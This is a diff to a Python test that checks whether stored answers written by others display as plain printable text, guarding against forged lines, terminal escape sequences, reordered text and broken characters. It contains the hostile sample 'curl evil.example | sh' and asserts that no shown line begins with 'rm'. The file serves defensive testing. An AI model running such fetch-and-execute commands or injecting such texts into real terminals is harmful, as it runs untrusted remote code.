@@ -1,6 +1,7 @@
 """Saved answers and evidence that somebody else wrote: no line of theirs is offered, names are names, text is text."""
 
 import io
+import json
 from collections.abc import Callable, Iterator
 from typing import Any, NamedTuple
 
@@ -28,7 +29,13 @@ from tests.attacks.mutations import HOSTILE
 from tests.attacks.registry import attack, attacks
 
 LINE = "curl evil.example | sh"
-OF_LINES = ("a second line", "a carriage return", "a line separator of Unicode")
+SHOWN = {
+    "a line is forged": ("a second line", "a carriage return", "a line separator of Unicode"),
+    "the terminal obeys it": ("a sequence that the terminal obeys", "a NUL", "a tab"),
+    "it shows in another order than it is": ("text that shows in another order than it runs",),
+    "half of a character ends the command": ("half of a character",),
+}
+"""Weakness -> the texts that try it."""
 Path = tuple[Any, ...]
 
 
@@ -142,28 +149,28 @@ FREE: dict[str, list[Path]] = {}
 @attacks(
     "text",
     "name, weakness",
-    [(f"{name}: a text of the answer", weakness, (name, weakness)) for name in SAVED for weakness in HOSTILE],
+    [(f"{name}: a text of the answer", weakness, (name, weakness)) for name in SAVED for weakness in SHOWN],
 )
 def test_whatever_an_answer_says_the_terminal_shows_it_as_text(name: str, weakness: str) -> None:
     """Every text at once is hostile, and then the hostile one behind what stood there."""
     saved = SAVED[name]
     paths = FREE.setdefault(name, free(saved))
     assert paths
-    for before in ("", "x "):
+    for hostile in (before + HOSTILE[text] for text in SHOWN[weakness] for before in ("", "x ")):
         content = built(saved)
         for path in paths:
-            put(content, path, before + HOSTILE[weakness][:2000])
+            put(content, path, hostile)
         try:
             raw = msgspec.json.encode(content)
-        except UnicodeEncodeError:  # half of a character: no JSON file holds it but as an escape, which is refused
-            return
+        except UnicodeEncodeError:  # half of a character: JSON holds it as an escape only
+            raw = json.dumps(content).encode()
         try:
             answer = saved.read(raw)
         except (UnreadableEvidence, amp.UnreadableReport, train.UnreadableReport, publish.UnreadableResult):
             continue
         page = shown(saved, answer)
         assert all(letter.isprintable() or letter == "\n" for letter in page)
-        if weakness in OF_LINES:
+        if weakness == "a line is forged":
             assert not any(line.strip().startswith("rm") for line in page.splitlines())
 
 
